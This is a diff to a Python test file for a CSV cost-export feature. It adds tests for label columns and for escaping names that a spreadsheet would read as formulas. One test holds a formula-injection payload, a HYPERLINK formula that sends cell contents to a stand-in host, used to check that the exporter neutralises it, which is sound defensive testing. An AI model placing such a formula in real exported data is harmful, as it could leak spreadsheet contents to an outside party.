@@ -270,8 +270,22 @@ async def test_labels_of_the_configuration_follow_the_columns(export: Export, sp
         AllocationRule(member=re.compile("ada@example.com"), labels={"team": "ada"}),
     )
     allocations = Allocations(labels=("team", "cost_center"), rules=rules)
+    export.allocations = allocations
     export.accounts = [replace(account(split_by=split_by), labels={"team": "platform"}, allocations=allocations)]
     rows = csv_rows(await exported(export))
     assert [*COLUMNS, "team", "cost_center"] == list(rows[0])
     assert teams == {row["team"] for row in rows}
     assert {"unallocated"} == {row["cost_center"] for row in rows}
+
+
+async def test_labels_of_the_configuration_are_columns_without_any_account(export: Export) -> None:
+    export.accounts, export.allocations = [], Allocations(labels=("team", "cost_center"))
+    assert HEADER.rstrip() + b",team,cost_center\r\n" == await exported(export)
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_name_that_a_spreadsheet_takes_for_a_formula_begins_with_a_quote(begin: str) -> None:
+    name = f'{begin}HYPERLINK("http://x.example/?"&A1)'
+    (written,) = csv_of([row(model=name, provider_name=name, usage=-2.5, byok_usage_inference=0)])
+    assert (f"'{name}", f"'{name}") == (written["model"], written["provider"])
+    assert ("-2.5", "-2.5") == (written["spend_usd"], written["usage_usd"])
